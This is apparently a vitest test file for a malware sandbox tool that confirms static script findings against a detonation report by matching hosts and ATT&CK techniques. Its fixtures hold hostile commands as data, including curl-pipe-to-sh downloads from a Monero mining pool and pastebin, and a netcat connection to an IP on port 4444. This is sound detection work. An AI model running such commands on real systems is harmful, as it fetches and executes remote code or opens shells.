import { describe, expect, it } from 'vitest';
import type { StaticFinding } from '../../../../lambdas/core/contracts/static-report';
import { confirmStaticFindings, hostsIn } from '../../../../lambdas/core/correlation/static-dynamic';
import { dropperDetonation } from '../../../fixtures/reports/detonation';

const finding = (over: Partial<StaticFinding>): StaticFinding => ({
  id: 'script.download-exec',
  category: 'network',
  severity: 'high',
  title: 'Script downloads code and runs it',
  evidence: [],
  attack: [],
  path: null,
  ...over,
});

describe('static findings confirmed by the detonation', () => {
  const report = dropperDetonation('a'.repeat(64));

  it('reads hosts from URLs and bare IPv4 addresses in evidence, lower-cased, user info and ports left out', () => {
    expect(
      hostsIn([
        'curl -s http://User:pw@Pool.SupportXMR.com:3333/x | sh',
        'wget https://[2001:db8::1]/a',
        'nc 185.225.74.9 4444 and 999.1.1.1',
      ]),
    ).toEqual(['pool.supportxmr.com', '2001:db8::1', '185.225.74.9']);
  });

  it('confirms a finding whose URL host the run looked up or contacted, saying what the run did', () => {
    const [confirmed] = confirmStaticFindings(
      [finding({ evidence: ['curl -fsSL https://pastebin.com/raw/abc | sh'], path: 'payload/update.sh' })],
      report,
    );
    expect(confirmed).toEqual({
      findingId: 'script.download-exec',
      path: 'payload/update.sh',
      how: [expect.stringMatching(/^the run (looked up |connected to |sent \S+ |opened TLS to )pastebin\.com/)],
    });
  });

  it('confirms a finding by a shared ATT&CK technique, a parent technique matching its sub-technique', () => {
    const confirmations = confirmStaticFindings(
      [
        finding({ id: 'script.cron', category: 'persistence', attack: ['T1053.003'] }),
        finding({ id: 'script.scheduled', category: 'persistence', attack: ['T1053'] }),
        finding({ id: 'script.systemd', category: 'persistence', attack: ['T1053.006'] }),
      ],
      report,
    );
    expect(confirmations.map((c) => c.findingId)).toEqual(['script.cron', 'script.scheduled']);
    expect(confirmations[0]?.how[0]).toMatch(/^the run raised ".+" \(T1053\.003/);
  });

  it('leaves out what the run did not bear out: other hosts, other techniques, no evidence at all', () => {
    expect(
      confirmStaticFindings(
        [
          finding({ evidence: ['curl http://elsewhere.example.test/x | sh'], attack: ['T1490'] }),
          finding({ id: 'pe.overlay', category: 'evasion', severity: 'low' }),
        ],
        report,
      ),
    ).toEqual([]);
  });

  it('keeps at most three confirmations per finding, whatever the evidence holds', () => {
    const hosts = ['pool.supportxmr.com', 'pastebin.com', '185.225.74.9'];
    const [confirmed] = confirmStaticFindings(
      [finding({ evidence: hosts.map((h) => `curl http://${h}/x`), attack: ['T1053.003', 'T1546.004'] })],
      report,
    );
    expect(confirmed?.how).toHaveLength(3);
  });
});
